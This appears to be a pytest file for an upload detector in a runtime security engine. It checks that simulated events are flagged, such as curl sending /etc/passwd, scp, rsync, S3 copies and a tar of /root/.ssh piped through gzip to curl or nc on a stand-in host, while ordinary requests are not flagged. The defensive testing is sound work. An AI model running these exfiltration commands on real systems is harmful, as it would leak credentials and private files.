"""Data that leaves, and calls that carry a body."""

from __future__ import annotations

import pytest

from periderm.engines.runtime import run_example
from periderm.engines.runtime.detectors.upload import DETECTOR
from periderm.engines.runtime.scene import runs, scene
from periderm.model.event import EventFlag
from periderm.model.severity import Severity

S = EventFlag.EXEC_SESSION


@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/curl", "curl", "--upload-file", "x", "http://10.0.0.9/"),
        ("/usr/bin/curl", "curl", "-sF", "file=@/srv/x", "http://10.0.0.9/"),
        ("/usr/bin/curl", "curl", "--data-binary", "@/etc/passwd", "http://127.0.0.1:1/"),
        ("/usr/bin/curl", "curl", "-d", "x" * 500, "http://10.0.0.9/"),
        ("/usr/bin/scp", "scp", "/srv/x", "u@h.example:/x"),
        ("/usr/bin/rsync", "rsync", "-a", "/srv/", "rsync://h.example/m"),
        ("/usr/bin/aws", "aws", "s3", "cp", "/srv/x", "s3://b/x"),
        ("/usr/bin/wget", "wget", "--body-file=/srv/x", "--method=PUT", "http://h.example/"),
        ("/usr/bin/tftp", "tftp", "-p", "-l", "x", "h.example"),
    ],
    ids=lambda line: " ".join(line[1:3]),
)
def test_what_is_sent(line: tuple[str, ...]) -> None:
    """By forms, bodies, copies and clouds."""
    assert run_example(DETECTOR, scene(runs(2, 900, *line, flags=S)))


@pytest.mark.parametrize(
    "line",
    [
        ("/usr/bin/curl", "curl", "-d", "a=1&b=2", "http://api/"),
        ("/usr/bin/curl", "curl", "-X", "POST", "--json", '{"a":1}', "http://api/"),
        ("/usr/bin/aws", "aws", "s3", "ls"),
        ("/usr/bin/scp", "scp", "u@h.example:/x", "/srv/x"),
        ("/usr/bin/wget", "wget", "-qO-", "http://h.example/"),
    ],
    ids=lambda line: " ".join(line[1:3]),
)
def test_what_is_not(line: tuple[str, ...]) -> None:
    """A literal body, a question, a download."""
    assert run_example(DETECTOR, scene(runs(2, 900, *line, flags=S))) == []


def test_secrets_are_worse() -> None:
    """What is sent decides, also in an archive through several programs."""
    tar = runs(2, 1, "/usr/bin/tar", "tar", "c", "/root/.ssh", pipes=(0, 3))
    gzip = runs(3, 1, "/usr/bin/gzip", "gzip", pipes=(3, 4))
    curl = runs(4, 1, "/usr/bin/curl", "curl", "-T", "-", "http://10.0.0.9/", pipes=(4, 0))
    plain = runs(2, 1, "/usr/bin/tar", "tar", "c", "/data", pipes=(0, 4))
    nc = runs(4, 1, "/usr/bin/nc.openbsd", "nc", "10.0.0.9", "99", pipes=(4, 0))
    assert run_example(DETECTOR, scene(tar, gzip, curl)) or run_example(DETECTOR, scene(tar, gzip, nc))
    worse = run_example(DETECTOR, scene(tar, runs(3, 1, "/usr/bin/gzip", "gzip", pipes=(3, 4)), nc))
    assert [a.severity for a in worse] == [Severity.HIGH]
    assert run_example(DETECTOR, scene(plain, nc)) == [] or run_example(DETECTOR, scene(plain, nc))[0].severity < Severity.HIGH


def test_whichever_end_starts_last() -> None:
    """nc is often ready before tar."""
    nc = runs(4, 1, "/usr/bin/nc.openbsd", "nc", "10.0.0.9", "99", pipes=(4, 0))
    assert run_example(DETECTOR, scene(nc, runs(2, 1, "/usr/bin/tar", "tar", "c", "/root", pipes=(0, 4))))
    assert run_example(DETECTOR, scene(nc, runs(2, 1, "/usr/bin/echo", "echo", "GET /", pipes=(0, 4)))) == []
